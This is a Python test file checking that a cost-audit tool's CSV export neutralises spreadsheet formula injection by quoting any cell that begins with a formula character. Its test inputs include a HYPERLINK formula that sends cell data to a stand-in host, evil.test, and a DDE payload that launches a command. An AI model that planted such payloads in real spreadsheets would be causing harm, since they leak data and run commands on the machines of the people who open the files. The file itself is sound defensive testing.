"""`cloudaudit spend --format csv`: what a spreadsheet opens is data, never a formula."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from uuid import uuid4

from cloudaudit.ingest.domain.spend import Dimension, SpendAnswer, SpendQuery, SpendRow
from cloudaudit.ingest.entrypoints.cli import render_spend

HOSTILE_KEYS = (
    '=HYPERLINK("https://evil.test/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


def _csv(keys: tuple[str, ...], amounts: tuple[Decimal, ...]) -> list[list[str]]:
    query = SpendQuery(
        team_id=uuid4(),
        start=date(2026, 11, 1),
        end=date(2026, 12, 1),
        dimension=Dimension.TAG,
        tag_key="team",
    )
    rows = [SpendRow(k, a) for k, a in zip(keys, amounts, strict=True)]
    answer = SpendAnswer(query=query, total=sum(amounts, Decimal(0)), rows=rows)
    return list(csv.reader(io.StringIO(render_spend(answer, "csv"), newline="")))


def test_cells_that_a_spreadsheet_would_run_are_quoted_away():
    amounts = tuple(Decimal(n) for n in range(1, len(HOSTILE_KEYS) + 1))
    table = _csv(HOSTILE_KEYS, amounts)
    assert len(table) == len(HOSTILE_KEYS) + 2 and {len(row) for row in table} == {
        3
    }  # no row split
    keys = [row[0] for row in table[1:-1]]
    assert keys == ["'" + k for k in HOSTILE_KEYS]  # the text is kept, behind a quote
    assert not any(k.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table for k in row[:1])


def test_plain_keys_and_negative_amounts_are_left_as_they_are():
    table = _csv(("AmazonEC2", "team's-web", "Credit"), (Decimal("12.5"), Decimal(1), Decimal(-3)))
    assert table == [
        ["key", "amount", "estimated"],
        ["AmazonEC2", "12.50", "false"],
        ["team's-web", "1.00", "false"],
        ["Credit", "-3.00", "false"],  # a credit stays a number a spreadsheet can add up
        ["total", "10.50", "false"],
    ]
